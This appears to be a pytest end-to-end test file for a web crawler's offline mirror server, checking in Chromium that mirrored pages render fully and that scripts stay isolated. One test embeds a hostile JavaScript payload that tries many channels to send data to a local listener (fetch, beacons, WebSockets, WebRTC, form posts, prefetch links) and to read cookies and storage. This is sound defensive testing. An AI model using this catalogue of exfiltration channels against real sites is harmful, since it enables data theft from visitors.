"""The mirror in a real browser: pages are complete, scripts isolated, originals offline."""

import contextlib
import json
import re
import socket
import threading
from contextlib import closing, contextmanager
from http.client import HTTPConnection
from urllib.parse import urlsplit

import pytest

from crawld.store.engine import migrate
from tests.e2e.daemon_config import query_rows, site, start_daemon
from tests.e2e.png import grey_png
from tests.peer.chromium import requests_of, with_chromium
from tests.peer.crawld_process import with_serve

PNG = grey_png(b"abc")
"""An image three pixels wide."""


@pytest.fixture(scope="module")
def browser():
    with with_chromium() as running:
        yield running


@pytest.fixture
def page(browser):
    with closing(browser.new_context()) as context:
        context.set_default_timeout(60_000)
        yield context.new_page()


@contextmanager
def record_connections():
    """Listen on loopback and record what clients send; yield the port and the list."""
    received = []
    with socket.create_server(("127.0.0.1", 0)) as listening:

        def accept():
            while True:
                try:
                    client, _ = listening.accept()
                except OSError:
                    return
                with client, contextlib.suppress(TimeoutError):
                    client.settimeout(1.0)  # a connection without data is harmless
                    received.append(client.recv(4096))

        thread = threading.Thread(target=accept, daemon=True)
        thread.start()
        yield listening.getsockname()[1], received
        listening.shutdown(socket.SHUT_RDWR)
        thread.join()


@pytest.fixture
def mirror_tree(nginx, crawld):
    """Return a function that mirrors a tree of files and then stops its server."""

    def mirror(files, *options):
        folder = crawld.folder / "tree"
        for name, content in files.items():
            path = folder / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(content if isinstance(content, bytes) else content.encode())
        server = nginx({"127.0.0.1": folder})
        start = server.url("/index.html")
        done = crawld.crawld("mirror", start, "--delay", "0", "--once", "--depth", "3", *options)
        assert done.returncode in (0, 3), done.stderr
        server.process.end()
        return start

    return mirror


@pytest.fixture
def serve(cleanup, crawld):
    """Return a function that starts `crawld serve` and returns the URL it prints."""

    def start(*options):
        return cleanup.enter_context(with_serve(crawld, *options)).rstrip("/")

    return start


def path_of(url):
    return "/" + url.replace("://", "/", 1)


def test_a_page_is_complete_in_the_browser(mirror_tree, serve, page):
    start = mirror_tree(
        {
            "index.html": "<link rel=stylesheet href=/s/style.css><body><p id=p>text</p>"
            '<img id=i src="i.png"><iframe src="frame"></iframe>'
            '<a id=a href="sub/b.html#x">b</a>',
            "frame/index.html": "<p id=f>framed",  # /frame leads to /frame/
            "s/style.css": "#p{color:rgb(1,2,3);background-image:url(../i.png)}",
            "i.png": PNG,
            "sub/b.html": "<base href=/><title>B</title><a id=back href=index.html>back</a>",
        }
    )
    mirror = serve()
    made = requests_of(page)
    page.goto(mirror + path_of(start))
    color = page.evaluate("getComputedStyle(document.getElementById('p')).color")
    width = page.evaluate("document.getElementById('i').naturalWidth")
    assert (color, width) == ("rgb(1, 2, 3)", 3)
    assert page.frame_locator("iframe").locator("#f").inner_text() == "framed"
    page.click("#a")
    assert page.title() == "B"
    page.click("#back")
    assert page.url == mirror + path_of(start)
    assert all(url.startswith(mirror) for url in made)


ATTACK_SCRIPT = """
const out = 'http://127.0.0.1:%(port)d/', results = {};
const tell = name => error => { results[name] = String(error && error.message || error); };
const tried = [
  fetch(out + 'fetch').catch(tell('fetch')),
  fetch('/').then(answer => answer.text()).then(text => { results.read = text; }, tell('own')),
  fetch('/search?q=x', {mode: 'no-cors'}).catch(tell('nocors')),
  new Promise(done => { const i = new Image(); i.onerror = i.onload = done; i.src = out + 'img'; }),
  new Promise(done => { const s = document.createElement('script');
    s.onerror = s.onload = done; s.src = out + 'script'; document.head.append(s); }),
  new Promise(done => { const l = document.createElement('link'); l.rel = 'stylesheet';
    l.onerror = l.onload = done; l.href = out + 'css'; document.head.append(l); }),
];
try { navigator.sendBeacon(out + 'beacon', 'x'); } catch (error) { tell('beacon')(error); }
try { new WebSocket(out.replace('http', 'ws') + 'ws'); } catch (error) { tell('ws')(error); }
try { new EventSource(out + 'events'); } catch (error) { tell('events')(error); }
tried.push(new Promise(done => {
  try {
    const peer = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:%(udp_port)d'}]});
    peer.onicegatheringstatechange = () => peer.iceGatheringState == 'complete' && done();
    peer.createDataChannel('x');
    peer.createOffer().then(offer => peer.setLocalDescription(offer)).catch(done);
  } catch (error) { tell('peer')(error); done(); }
  setTimeout(done, 2000);
}));
try { new Worker(out + 'worker'); } catch (error) { tell('worker')(error); }
try { localStorage.x = 1; results.storage = 'kept'; } catch (error) { tell('storage')(error); }
try { document.cookie = 'a=b'; results.cookie = document.cookie; }
catch (error) { tell('cookie')(error); }
const form = document.createElement('form');
form.action = out + 'form'; form.target = 'inner'; form.method = 'post';
const frame = document.createElement('iframe'); frame.name = 'inner'; frame.src = '/';
document.body.append(frame, form); form.submit();
for (const rel of ['prefetch', 'preconnect', 'dns-prefetch', 'modulepreload']) {
  const link = document.createElement('link'); link.rel = rel; link.href = out + rel;
  document.head.append(link);
}
Promise.allSettled(tried).then(() => setTimeout(() => {
  try { results.frame = frame.contentDocument ? frame.contentDocument.body.innerText : null; }
  catch (error) { results.frame = 'shut'; }
  results.done = true;
  document.body.dataset.results = JSON.stringify(results);
}, 300));
"""


def test_a_hostile_script_reaches_nothing(mirror_tree, serve, page):
    with (
        record_connections() as (port, received),
        socket.socket(type=socket.SOCK_DGRAM) as datagrams,
    ):
        datagrams.bind(("127.0.0.1", 0))
        datagrams.setblocking(False)
        ports = {"port": port, "udp_port": datagrams.getsockname()[1]}
        start = mirror_tree(
            {
                "index.html": "<meta http-equiv=refresh content='9999;url=/'><body>"
                f"<script>{ATTACK_SCRIPT % ports}</script>"
                f'<img src="http://127.0.0.1:{port}/static"><a ping="http://127.0.0.1:{port}/ping">'
            },
            "--no-requisites",
        )
        received.clear()
        mirror = serve()
        page.goto(mirror + path_of(start))
        page.wait_for_selector("body[data-results]")
        results = json.loads(page.get_attribute("body", "data-results"))
        with pytest.raises(BlockingIOError):
            datagrams.recv(1)
    assert results["done"]
    assert results.keys() & {"read"} == set()
    assert results.get("cookie", "") == "" or "cookie" in results["cookie"].lower()
    assert results["storage"] != "kept"
    assert results["frame"] in (None, "shut", "")
    assert [request for request in received if request] == []


def test_no_scripts_disables_scripts(mirror_tree, serve, page):
    start = mirror_tree(
        {"index.html": "<title>as it came</title><script>document.title='x'</script>"}
    )
    page.goto(serve("--no-scripts") + path_of(start))
    assert page.title() == "as it came"


def test_a_document_with_its_own_policy_is_shown(mirror_tree, serve, page):
    start = mirror_tree(
        {
            "index.html": '<meta http-equiv="Content-Security-Policy" content="img-src evil.test">'
            '<img id=i src=i.png integrity="sha256-AA" crossorigin>',
            "i.png": PNG,
        }
    )
    page.goto(serve() + path_of(start))
    assert page.evaluate("document.getElementById('i').naturalWidth") == 3


def test_fonts_and_modules_load(mirror_tree, serve, page):
    start = mirror_tree(
        {
            "index.html": "<script type=module src=m.js></script><p>text",
            "m.js": "document.title = 'loaded'",
        }
    )
    page.goto(serve() + path_of(start))
    page.wait_for_function("document.title === 'loaded'")


def element_boxes(page):
    """Return position and size of each element of a page."""
    return page.evaluate(
        "[...document.querySelectorAll('body, body *:not(crawld-banner, crawld-banner *)')].map("
        "e => { const r = e.getBoundingClientRect(); return [e.tagName, e.id,"
        " ...[r.x, r.y, r.width, r.height].map(Math.round)].join(' '); })"
    )


def visible_text(page):
    page.evaluate("document.querySelectorAll('crawld-banner').forEach(e => e.remove())")
    # Chromium writes a tab or nothing between cells, by the pieces in which the page has arrived.
    return "".join(page.evaluate("document.body.innerText").split())


def test_a_mirrored_wiki_looks_the_same_as_the_original(mediawiki, crawld, serve, browser):
    """MediaWiki, then its mirror while the wiki is off: the same text in the same positions."""
    wiki = mediawiki
    wiki.set_robots(None)  # its styles come from /w/, which robots.txt forbids
    urls = [wiki.url("Main Page"), *(wiki.url(each.title) for each in wiki.pages[:3])]
    start_daemon(
        crawld,
        {**site(*urls, name="wiki", max_depth=0, requisites=True)},
        politeness={"host_delay_s": 0.0, "address_delay_s": 0.0},
    )
    crawld.wait_until(
        lambda _: (
            query_rows(crawld, "SELECT count(*) FROM page WHERE state = 'discovered'") == [(0,)]
            and query_rows(crawld, "SELECT count(*) FROM page WHERE version_id IS NOT NULL")[0][0]
            > len(urls)
        )
    )
    with closing(browser.new_context(java_script_enabled=False)) as context:
        page = context.new_page()
        before = []
        for url in urls:
            page.goto(url)
            before.append((element_boxes(page), page.title(), visible_text(page)))
        assert crawld.terminate() == 0
        wiki.nginx.process.end()
        mirror = serve("--no-scripts")
        made = requests_of(page)
        for url, was in zip(urls, before, strict=True):
            page.goto(mirror + path_of(url))
            assert (element_boxes(page), page.title(), visible_text(page)) == was
        assert all(url.startswith(mirror) for url in made)
        styled = "[...document.styleSheets].filter(sheet => sheet.cssRules.length).length"
        assert page.evaluate(styled.replace("sheet.cssRules.length", "sheet.ownerNode")) > 0


def test_a_server_and_a_daemons_listener_serve_the_same_database(simweb, crawld, serve):
    web = simweb("--host=a.test", "--pages=200")
    listen = {"listen": "127.0.0.1:0"}
    start_daemon(crawld, site(web.url("/", "a.test")), web=listen)
    crawld.wait_until(lambda status: status["pages"]["visited"] > 20)
    mirror = serve()
    own = re.search(r"http://127\.0\.0\.1:[0-9]+/", crawld.output())[0]
    for address in (mirror, own.rstrip("/")):
        parts = urlsplit(address)
        connection = HTTPConnection(parts.hostname, parts.port, timeout=120)
        with closing(connection):
            for target, status in (("/", 200), (path_of(web.url("/", "a.test")), 200)):
                connection.request("GET", target)
                answer = connection.getresponse()
                assert (answer.status, answer.read() != b"") == (status, True)
            connection.request("HEAD", path_of(web.url("/", "a.test")))
            answer = connection.getresponse()
            assert (answer.status, answer.read()) == (200, b"")
            assert int(answer.headers["content-length"]) > 100
            connection.request("POST", "/", b"x")
            answer = connection.getresponse()
            assert answer.status == 405
            answer.read()
    assert crawld.terminate() == 0


@pytest.mark.parametrize(
    ("options", "message"),
    [
        (("--db", "none.db"), "there is no database none.db"),
        (("--listen", "nowhere"), "must be an address and a port"),
        (("--listen", "192.0.2.1:80"), "cannot listen on 192.0.2.1:80"),
    ],
)
def test_a_server_that_cannot_start_shows_why(crawld, options, message):
    migrate.migrate(crawld.db)
    done = crawld.crawld("serve", *options)
    assert done.returncode == 2
    assert message in done.stderr
